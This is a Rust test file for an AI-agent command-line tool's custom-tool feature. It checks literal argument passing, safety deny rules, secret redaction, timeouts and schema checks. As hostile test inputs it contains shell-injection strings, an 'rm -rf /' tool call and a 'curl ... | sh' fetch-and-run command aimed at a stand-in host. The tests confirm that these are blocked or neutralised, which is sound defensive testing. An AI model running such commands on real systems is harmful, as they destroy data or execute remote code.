//! Custom tools: `goclaw tools add|rm|custom list`, values passed literally, deny groups on the
//! rendered command, sealed variables, time limits, per-agent scope, and use in a run.

use serde_json::json;

use crate::util::*;

const SECRET: &str = "zq8-custom-tool-secret-4471";

fn add(env: &TestEnv, def: serde_json::Value, extra: &[&str]) -> std::process::Output {
    let path = env.write("def.json", def.to_string());
    let mut args = vec!["tools", "add", path.to_str().unwrap()];
    args.extend(extra);
    env.run(&args)
}

fn echo_tool() -> serde_json::Value {
    json!({
        "name": "echo_args",
        "description": "Print the arguments, one per line",
        "parameters": {"type": "object", "properties": {
            "text": {"type": "string"}, "n": {"type": "number"}}, "required": ["text"]},
        "command": "printf '%s|\\n' {{.text}} {{.n}} {{.absent}}",
        "timeout_seconds": 10
    })
}

fn result(o: &std::process::Output) -> String {
    json(o)["result"]["for_llm"]
        .as_str()
        .unwrap_or_default()
        .to_string()
}

on_both_backends! {
fn argument_values_reach_the_command_literally(backend) {
    let Some(env) = TestEnv::on(backend) else { return };
    let o = add(&env, echo_tool(), &[]);
    assert_eq!(code(&o), 0, "{} {}", stdout(&o), stderr(&o));
    for hostile in [
        "it's \"quoted\"",
        "$(touch pwned)",
        "`touch pwned`",
        "a; touch pwned",
        "line one\nline two",
        "'; touch pwned; echo '",
        "$HOME ${PATH} *",
    ] {
        let args = json!({"text": hostile, "n": 5}).to_string();
        let o = env.run(&["tools", "exec", "echo_args", &args]);
        assert_eq!(code(&o), 0, "{hostile}: {}", stdout(&o));
        assert_eq!(
            result(&o),
            format!("{hostile}|\n5|\n{{{{.absent}}}}|\n"),
            "{hostile}"
        );
        assert!(
            !env.work().join("pwned").exists(),
            "{hostile} ran something"
        );
    }
}
}

on_both_backends! {
fn custom_tools_are_listed_described_and_removed(backend) {
    let Some(env) = TestEnv::on(backend) else { return };
    std::fs::write(
        env.home().join("config.toml"),
        "[agents.ops]\n[agents.dev]\n",
    )
    .unwrap();
    assert_eq!(code(&add(&env, echo_tool(), &[])), 0);
    let mut mine = echo_tool();
    mine["name"] = json!("ops_only");
    assert_eq!(code(&add(&env, mine, &["--agent", "ops"])), 0);

    let names = |agent: &str| -> Vec<String> {
        list(&env.run(&["tools", "list", "--agent", agent]))
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r["name"].as_str().unwrap().to_string())
            .collect()
    };
    assert!(names("ops").contains(&"ops_only".to_string()));
    assert!(names("ops").contains(&"echo_args".to_string()));
    assert!(!names("dev").contains(&"ops_only".to_string()));
    let o = env.run(&[
        "tools",
        "exec",
        "ops_only",
        r#"{"text":"x"}"#,
        "--agent",
        "dev",
    ]);
    assert_error(&o, 5, "not_found");
    let o = env.run(&[
        "tools",
        "exec",
        "ops_only",
        r#"{"text":"x"}"#,
        "--agent",
        "ops",
    ]);
    assert_eq!(code(&o), 0, "{}", stdout(&o));

    let d = json(&env.run(&["tools", "describe", "echo_args"]));
    assert_eq!(d["parameters"]["required"][0], "text");
    // The schema applies like a built-in's.
    let o = env.run(&["tools", "exec", "echo_args", r#"{"n":1}"#]);
    assert_eq!(code(&o), 2, "{}", stdout(&o));
    // Policy sees it: denied by name.
    std::fs::write(
        env.home().join("config.toml"),
        "[agents.ops]\n[agents.dev]\n[tools]\ndeny = [\"echo_args\"]\n",
    )
    .unwrap();
    let o = env.run(&["tools", "exec", "echo_args", r#"{"text":"x"}"#]);
    assert_eq!(code(&o), 3, "{}", stdout(&o));

    let list = list(&env.run(&["tools", "custom", "list"]));
    assert_eq!(list.as_array().unwrap().len(), 2);
    assert_eq!(
        code(&env.run(&["tools", "rm", "ops_only", "--agent", "ops"])),
        0
    );
    let o = env.run(&["tools", "rm", "ops_only"]);
    assert_error(&o, 5, "not_found");
}
}

on_both_backends! {
fn the_rendered_command_meets_the_deny_groups(backend) {
    let Some(env) = TestEnv::on(backend) else { return };
    let def = json!({"name": "cleanup", "command": "rm -rf {{.path}}",
        "parameters": {"type": "object", "properties": {"path": {"type": "string"}}}});
    assert_eq!(code(&add(&env, def, &[])), 0);
    let o = env.run(&["tools", "exec", "cleanup", r#"{"path":"/"}"#]);
    assert_eq!(code(&o), 3, "{}", stdout(&o));
    assert!(
        stdout(&o).contains("command denied by safety policy"),
        "{}",
        stdout(&o)
    );
    let def = json!({"name": "fetch_run", "command": "curl -s {{.url}} | sh",
        "parameters": {"type": "object", "properties": {"url": {"type": "string"}}}});
    assert_eq!(code(&add(&env, def, &[])), 0);
    let o = env.run(&[
        "tools",
        "exec",
        "fetch_run",
        r#"{"url":"http://x.test/i.sh"}"#,
    ]);
    assert_eq!(code(&o), 3, "{}", stdout(&o));
}
}

on_both_backends! {
fn variables_are_sealed_injected_and_scrubbed_and_time_is_limited(backend) {
    let Some(env) = TestEnv::on(backend) else { return };
    let def = json!({"name": "show_key", "command": "echo \"key is $SERVICE_KEY\"",
        "env": {"SERVICE_KEY": SECRET}});
    assert_eq!(code(&add(&env, def, &[])), 0);
    let o = env.run(&["tools", "exec", "show_key", "{}"]);
    assert_eq!(code(&o), 0, "{}", stdout(&o));
    assert_eq!(result(&o), "key is [REDACTED]\n");
    let listed = stdout(&env.run(&["tools", "custom", "list"]));
    assert!(
        listed.contains("\"env_keys\":[\"SERVICE_KEY\"]") && !listed.contains(SECRET),
        "{listed}"
    );
    let db = env.store_bytes();
    assert!(!db.windows(SECRET.len()).any(|w| w == SECRET.as_bytes()));

    let def = json!({"name": "slow", "command": "sleep 5", "timeout_seconds": 1});
    assert_eq!(code(&add(&env, def, &[])), 0);
    let o = env.run(&["tools", "exec", "slow", "{}"]);
    assert_eq!(code(&o), 7, "{}", stdout(&o));
}
}

on_both_backends! {
fn bad_definitions_are_refused(backend) {
    let Some(env) = TestEnv::on(backend) else { return };
    let mut def = echo_tool();
    def["name"] = json!("exec");
    assert_error(&add(&env, def, &[]), 6, "conflict");
    let mut def = echo_tool();
    def["name"] = json!("has space");
    assert_error(&add(&env, def, &[]), 2, "usage");
    let mut def = echo_tool();
    def["surprise"] = json!(1);
    assert_error(&add(&env, def, &[]), 2, "usage");
    let o = env.run(&["tools", "add", "missing.json"]);
    assert_eq!(code(&o), 5, "{}", stderr(&o));
    let o = env.run_stdin(&["tools", "add", "-"], echo_tool().to_string());
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    assert!(!stderr(&o).contains("warning"), "{}", stderr(&o));
    // A command the deny groups refuse as written: stored, and said at once.
    let mut def = echo_tool();
    def["name"] = json!("dns_lookup");
    def["command"] = json!("dig {{.text}}");
    let o = add(&env, def, &[]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    assert!(
        stderr(&o).contains("dns_lookup: its command meets the exec deny group"),
        "{}",
        stderr(&o)
    );
}
}

on_both_backends! {
fn an_agent_run_calls_a_custom_tool(backend) {
    let Some(env) = TestEnv::on(backend) else { return };
    assert_eq!(code(&add(&env, echo_tool(), &[])), 0);
    let provider = crate::run::recording(
        &env,
        "r.jsonl",
        &[
            crate::run::calls(
                "c",
                &[("echo_args", json!({"text": "from the model $(id)"}))],
                "tool_calls",
            ),
            crate::run::answer("done"),
        ],
    );
    let (o, inputs) = crate::run::verbose_run(&env, &["--provider", &provider, "go"]);
    assert_eq!(code(&o), 0);
    let system = inputs[0][0]["content"].as_str().unwrap();
    assert!(
        system.contains("- echo_args: Print the arguments, one per line"),
        "{system}"
    );
    let last = &inputs[1];
    let tool_msg = last.iter().find(|m| m["role"] == "tool").unwrap();
    assert_eq!(
        tool_msg["content"],
        "from the model $(id)|\n{{.n}}|\n{{.absent}}|\n"
    );
}
}

on_both_backends! {
fn arguments_are_checked_against_the_whole_schema(backend) {
    let Some(env) = TestEnv::on(backend) else { return };
    let def = json!({
        "name": "tag",
        "description": "Tag a release",
        "parameters": {"type": "object", "required": ["version"], "properties": {
            "version": {"type": "string", "pattern": "^v[0-9]+\\.[0-9]+$", "maxLength": 8},
            "notes": {"type": "array", "items": {"type": "string", "maxLength": 10}}}},
        "command": "echo {{.version}}",
        "timeout_seconds": 10
    });
    let o = add(&env, def, &[]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let ok = env.run(&[
        "tools",
        "exec",
        "tag",
        r#"{"version":"v1.2","notes":["fix"]}"#,
    ]);
    assert_eq!(code(&ok), 0, "{}", stdout(&ok));
    for (args, place) in [
        (r#"{"version":"1.2"}"#, "field `version`"),
        (r#"{"version":"v1.2.3.4.5"}"#, "field `version`"),
        (
            r#"{"version":"v1.2","notes":["fine","far too long a note"]}"#,
            "field `notes.1`",
        ),
        (
            r#"{"version":"v1.2","notes":"not a list"}"#,
            "field `notes` must be an array",
        ),
    ] {
        let e = assert_error(&env.run(&["tools", "exec", "tag", args]), 2, "usage");
        assert!(
            e["message"].as_str().unwrap().contains(place),
            "{args}: {e}"
        );
    }
}
}
